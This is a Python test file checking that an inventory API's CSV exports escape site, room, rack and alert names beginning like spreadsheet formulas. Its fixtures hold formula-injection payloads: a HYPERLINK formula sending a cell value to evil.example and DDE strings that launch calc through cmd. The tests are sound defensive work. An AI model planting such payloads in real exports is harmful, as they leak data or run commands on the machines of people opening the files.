"""CSV from the API never opens as a formula, over real HTTP on 127.0.0.1 (uvicorn).

The inventory of tests/cases/reports/formula_names gives the site, room and racks names that
start like spreadsheet formulas; every CSV route must write them with a leading single quote,
while numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator

import httpx
import pytest

from dcmon.app.inventory import load_config
from tests.support import capacity_api
from tests.support.capacity_api import READ_TOKEN, RunningApi, running_api
from tests.support.paths import CASES

SITE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ROOM_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
RACK_NAMES = {"r1": "+1+cmd|' /C calc'!A0", "r2": "-2+3\r\t=1+1"}
AUTH = {"Authorization": f"Bearer {READ_TOKEN}"}
#: An alert whose labels and summary carry the names (rules template them in).
ALERT = dataclasses.replace(
    capacity_api.ALERT, labels={**capacity_api.ALERT.labels, "site_name": SITE_NAME},
    annotations={"summary": "-1+1 feed at risk in " + ROOM_NAME})


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApi]:
    cfg = load_config(CASES / "reports" / "formula_names" / "config.yaml")
    with running_api("failover_ab", tmp_path_factory.mktemp("api-csv"), config=cfg,
                     active=[ALERT]) as a:
        yield a


def csv_of(api: RunningApi, path: str) -> tuple[list[list[str]], list[dict[str, str]]]:
    """The CSV route's cells (header first) and its rows by column."""
    r = httpx.get(f"{api.url}/api/v1{path}", params={"format": "csv"}, headers=AUTH,
                  timeout=10)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    text = r.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text))), list(csv.DictReader(io.StringIO(text)))


def formula_cells(cells: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula start that is not a plain number."""
    out = []
    for line in cells:
        for c in line:
            if c[:1] in ("=", "+", "@", "\t", "\r"):
                out.append(c)
            elif c.startswith("-"):
                try:
                    float(c)
                except ValueError:
                    out.append(c)
    return out


def test_the_json_keeps_the_names_as_given(api: RunningApi) -> None:
    r = httpx.get(f"{api.url}/api/v1/sites", headers=AUTH, timeout=10)
    assert r.json()["items"][0]["name"] == SITE_NAME  # JSON is data, not a spreadsheet


def test_site_name_is_text_in_the_sites_csv(api: RunningApi) -> None:
    cells, got = csv_of(api, "/sites")
    assert [(r["site"], r["name"]) for r in got] == [("dc1", "'" + SITE_NAME)]
    assert formula_cells(cells) == []
    assert float(got[0]["headroom.kw"]) == pytest.approx(0.2944)


def test_room_name_is_text_in_the_rooms_csv(api: RunningApi) -> None:
    cells, got = csv_of(api, "/rooms")
    assert [r["name"] for r in got] == ["'" + ROOM_NAME]
    assert formula_cells(cells) == []


def test_rack_names_are_text_and_negative_numbers_stay_numbers(api: RunningApi) -> None:
    cells, got = csv_of(api, "/racks")
    by = {r["rack"]: r for r in got}
    assert {k: r["name"] for k, r in by.items()} == {k: "'" + v for k, v in RACK_NAMES.items()}
    assert formula_cells(cells) == []
    # r1: 2.944 kW usable, 3.312 kW load: -0.368 kW headroom, written as the number it is.
    assert by["r1"]["headroom.power_kw"] == "-0.368"
    assert by["r1"]["headroom.std_racks"] == "-0.1472"
    assert by["r1"]["failover.ratio"] == "1.125" and by["r1"]["failover.ok"] == "false"
    # Only the names were touched: no other cell of the file starts with a quote.
    quoted = [c for line in cells for c in line if c.startswith("'")]
    assert sorted(quoted) == sorted("'" + v for v in RACK_NAMES.values())


def test_alert_labels_are_text_in_the_alerts_csv(api: RunningApi) -> None:
    cells, got = csv_of(api, "/alerts")
    assert got[0]["alertname"] == "DcmonFeedFailoverRisk" and got[0]["value"] == "1.125"
    assert got[0]["labels.site_name"] == "'" + SITE_NAME
    assert got[0]["annotations.summary"] == "'-1+1 feed at risk in " + ROOM_NAME
    assert formula_cells(cells) == []
